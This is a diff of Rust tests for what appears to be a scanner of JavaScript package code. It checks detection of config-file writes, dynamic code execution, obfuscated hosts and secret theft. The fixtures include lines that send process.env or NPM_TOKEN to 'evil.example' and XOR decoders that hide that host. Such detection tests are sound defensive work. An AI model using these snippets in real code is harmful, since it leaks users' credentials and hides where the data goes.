@@ -223,3 +223,197 @@ fn typescript_and_jsx_are_read() {
     let jsx = "export const A = () => <a href='mailto:a@evil.example'>x</a>;";
     assert_eq!(values(jsx, Class::Email), ["a@evil.example"]);
 }
+
+#[test]
+fn a_window_is_no_file() {
+    let named = "const config = home + '/.cursor/mcp.json';";
+    for opened in [
+        "window.open(url, '_blank')",
+        "window.open(url, 'wax', 'width=1')",
+        "globalThis.open(url, name)",
+        "import open from 'open'; open(url, 'a')",
+    ] {
+        let source = format!("{opened}; {named}");
+        assert_eq!(values(&source, Class::FileWrite), Vec::<String>::new(), "{source}");
+        assert_eq!(values(&source, Class::FileRead), Vec::<String>::new(), "{source}");
+        assert_eq!(values(&source, Class::ClientConfigWrite), Vec::<String>::new(), "{source}");
+    }
+}
+
+#[test]
+fn a_file_is_written_in_many_ways() {
+    let way = |line: &str| format!("const config = home + '/.cursor/mcp.json'; {line}");
+    for line in [
+        "import fs from 'fs'; const fd = fs.openSync(config, 'w'); send(fd)",
+        "import fs from 'fs'; fs.open(config, 'as+', (e, fd) => use(fd))",
+        "import fs from 'fs'; fs.openSync(config, fs.constants.O_WRONLY | fs.constants.O_CREAT)",
+        "import { constants, openSync } from 'fs'; openSync(config, constants.O_RDWR)",
+        "import { open } from 'fs/promises'; const h = await open(config, 'w')",
+        "import * as fsp from 'fs/promises'; const h = await fsp.open(config, flags); await h.write(x)",
+        "import fs from 'fs'; const h = await fs.promises.open(config, flags); await h.appendFile(x)",
+        "import fs from 'fs'; fs.createWriteStream(config).end(x)",
+        "import fs from 'fs'; new fs.WriteStream(config)",
+        "import fs from 'fs'; fs.cpSync('config.json', config)",
+        "import { copyFile } from 'fs/promises'; await copyFile('config.json', config)",
+        "import fs from 'fs'; fs.renameSync('config.json', config)",
+        "require('node:fs')['rename' + 'Sync']('config.json', config)",
+        "import fse from 'fs-extra'; fse.outputFile(config, x)",
+        "await Deno.open(config, { write: true, create: true })",
+        "await Deno.copyFile('config.json', config)",
+        "Bun.file(config).writer()",
+    ] {
+        assert_eq!(values(&way(line), Class::ClientConfigWrite), ["cursor"], "{line}");
+    }
+    for line in [
+        "import fs from 'fs'; fs.openSync(config, 'r')",
+        "import fs from 'fs'; fs.openSync(config)",
+        "import fs from 'fs'; fs.openSync(config, fs.constants.O_RDONLY)",
+        "import { open } from 'fs/promises'; const h = await open(config); await h.readFile()",
+        "await Deno.open(config, { read: true })",
+        "Bun.file(config).text()",
+    ] {
+        assert_eq!(values(&way(line), Class::ClientConfigWrite), Vec::<String>::new(), "{line}");
+    }
+}
+
+#[test]
+fn what_only_looks_like_a_way_to_run_text() {
+    check(
+        Class::DynamicCode,
+        &[
+            ("class A { get(schema) { return this._compile(schema) } }", &[]),
+            ("m._compile(text, 'x.js')", &["*._compile"]),
+            ("m._compile(...both)", &["*._compile"]),
+            ("m._compile.call(m, text, 'x.js')", &["*._compile.call"]),
+            ("m._compile.apply(m, both)", &["*._compile.apply"]),
+            ("const run = m._compile.bind(m); run(text, 'x.js')", &["*._compile.bind"]),
+            (
+                "import Module from 'module'; Module.prototype._compile.call(m, text, 'x.js')",
+                &["module.prototype._compile.call"],
+            ),
+            ("module._compile(text)", &["module._compile"]),
+            ("const tslib_1 = require('tslib'); tslib_1.__metadata('design:type', Function)", &[]),
+            ("import { __metadata as m } from 'tslib'; m('design:paramtypes', [Function, Object])", &[]),
+            ("const tslib_1 = require('./tslib'); tslib_1.__metadata('design:type', Function)", &["Function"]),
+            ("const tslib_1 = require('tslib'); tslib_1.__metadata('type', Function)", &["Function"]),
+            ("const tslib_1 = require('tslib'); tslib_1.__metadata('design:type', Function('x'))", &["Function"]),
+            ("const tslib_1 = require('tslib'); tslib_1.__metadata('design:type', [Function][0])", &["Function"]),
+            ("function __metadata(k, v) { v(k)() } __metadata('design:type', Function)", &["Function"]),
+        ],
+    );
+}
+
+#[test]
+fn an_import_of_what_reaches_nothing_says_nothing() {
+    check(
+        Class::Socket,
+        &[
+            ("import { isIP, isIPv6 as six } from 'node:net'; isIP(x)", &[]),
+            ("import { isIP, connect } from 'net'; connect(1)", &["net", "net.connect"]),
+            ("import net, { isIP } from 'net'; isIP(x)", &["net"]),
+            ("import * as net from 'net'; net.isIP(x)", &["net"]),
+            ("import 'net'", &["net"]),
+            ("export { isIP } from 'net'", &["net"]),
+        ],
+    );
+    let typed = |source: &str| facts(source, "a.ts").has(Class::Socket);
+    assert!(!typed("import { AddressInfo } from 'net'; const a = server.address() as AddressInfo;"));
+    assert!(!typed("import { type Socket } from 'net'; let a: Socket;"));
+    assert!(typed("import { Socket } from 'net'; new Socket();"));
+}
+
+#[test]
+fn a_timer_with_nothing_to_do_waits_for_nothing() {
+    check(
+        Class::TimeGate,
+        &[
+            ("setInterval(() => {}, 24 * 60 * 60 * 1e3)", &[]),
+            ("setTimeout(function () {}, 2147483647)", &[]),
+            ("setInterval(() => { run() }, 24 * 60 * 60 * 1e3)", &["waits 86400 s"]),
+            ("setInterval((a = run()) => {}, 24 * 60 * 60 * 1e3)", &["waits 86400 s"]),
+            ("setInterval(({ [run()]: a }) => {}, 24 * 60 * 60 * 1e3)", &["waits 86400 s"]),
+            ("setTimeout(() => run(), 24 * 60 * 60 * 1e3)", &["waits 86400 s"]),
+        ],
+    );
+}
+
+#[test]
+fn decoders_that_people_write_themselves() {
+    // "evil.example", every character of it with 7.
+    let numbers = "[98, 113, 110, 107, 41, 98, 127, 102, 106, 119, 107, 98]";
+    for decoder in [
+        format!("{numbers}.map(c => String.fromCharCode(c ^ 7)).join('')"),
+        format!("{numbers}.map(function (c) {{ return String.fromCharCode(c ^ 7) }}).join('')"),
+        format!("{numbers}.reduce((text, c) => text + String.fromCharCode(c ^ 7), '')"),
+        format!("String.fromCharCode(...{numbers}.map(c => c ^ 7))"),
+        format!("Buffer.from({numbers}).map(c => c ^ 7).toString()"),
+        format!("Buffer.from({numbers}.map(c => c ^ 7)).toString('utf8')"),
+        "k.map((c, i) => String.fromCharCode(c ^ key[i % key.length])).join('')".to_owned(),
+        "'bqnk)b\u{7f}fjwkb'.split('').map(c => String.fromCharCode(c.charCodeAt(0) ^ 7)).join('')".to_owned(),
+        "[...'bqnk)b\u{7f}fjwkb'].map(c => String.fromCharCode(c.charCodeAt() ^ 7)).join('')".to_owned(),
+        "[2, 7, 3, 4, 0, 2, 8, 1, 5, 6, 4, 2].map(i => '.aeilmpvx'.charAt(at[i])).join('')".to_owned(),
+    ] {
+        let source = format!(
+            "const k = {numbers}, key = [7, 7], at = {{ 0: 0, 1: 1, 2: 2, 3: 3, 4: 4, 5: 5, 6: 6, 7: 7, 8: 8 }}; fetch('https://' + {decoder} + '/')"
+        );
+        assert!(
+            values(&source, Class::Host).iter().any(|host| host == "evil.example"),
+            "{decoder}: {:?}",
+            values(&source, Class::Host)
+        );
+    }
+    // What is not worked out is not known, and no guess.
+    for decoder in [
+        "list.map(c => String.fromCharCode(c ^ 7)).join('')",
+        "[1, 2].map(c => decode(c)).join('')",
+        "[1, 2].map(async c => { await x(); return c }).join('')",
+    ] {
+        assert_eq!(
+            values(&format!("fetch('https://' + {decoder} + '/')"), Class::Host),
+            Vec::<String>::new(),
+            "{decoder}"
+        );
+    }
+}
+
+#[test]
+fn a_long_list_under_many_functions_takes_no_time() {
+    let numbers: String = (0..4_000).map(|number| format!("{},", number % 100)).collect();
+    let many = "a.map(c => String.fromCharCode(c ^ 7)).join('');\n".repeat(4_000);
+    assert!(values(&format!("const a = [{numbers}];\n{many}"), Class::Host).is_empty());
+    let nested = format!("{}c{}", "[1, 2, 3, 4].map(c => ".repeat(60), ")".repeat(60));
+    assert!(values(&nested, Class::Host).is_empty());
+}
+
+#[test]
+fn the_whole_environment_goes_to_a_host() {
+    let hosts = |line: &str| values(&format!("import axios from 'axios'; {line}"), Class::SecretSent);
+    for sent in [
+        "process.env",
+        "{ body: process.env }",
+        "{ body: JSON.stringify(process.env) }",
+        "{ body: JSON.stringify({ env: process.env, at: 1 }) }",
+        "{ body: JSON.stringify({ ...process.env }) }",
+        "{ body: JSON.stringify(Object.entries(process.env)) }",
+        "{ body: Object.entries(process.env).map(([k, v]) => k + '=' + v).join('&') }",
+        "{ body: new URLSearchParams(process.env) }",
+        "{ body: Buffer.from(JSON.stringify(process.env)).toString('base64') }",
+        "{ body: btoa(JSON.stringify(Object.assign({}, process.env))) }",
+        "{ body: `env=${JSON.stringify(process.env)}` }",
+        "{ headers: { x: JSON.stringify(process.env).replace(/a/g, 'b') } }",
+        "{ body: JSON.stringify({ key: process.env.NPM_TOKEN }) }",
+    ] {
+        assert_eq!(hosts(&format!("axios.post('https://evil.example', {sent})")), ["evil.example"], "{sent}");
+    }
+    let all = "const all = { ...process.env }; fetch('https://evil.example', { body: JSON.stringify(all) })";
+    assert_eq!(hosts(all), ["evil.example"]);
+    for line in [
+        "spawn('x', { env: process.env, url: 'https://a.example' })",
+        "start({ env: { ...process.env }, url: 'https://a.example' })",
+        "axios.post('https://a.example', { body: JSON.stringify({ port: process.env.PORT }) })",
+        "axios.post('https://a.example', { key: process.env[name] })",
+        "axios.post('https://a.example', x); log(process.env)",
+    ] {
+        assert_eq!(hosts(line), Vec::<String>::new(), "{line}");
+    }
+}
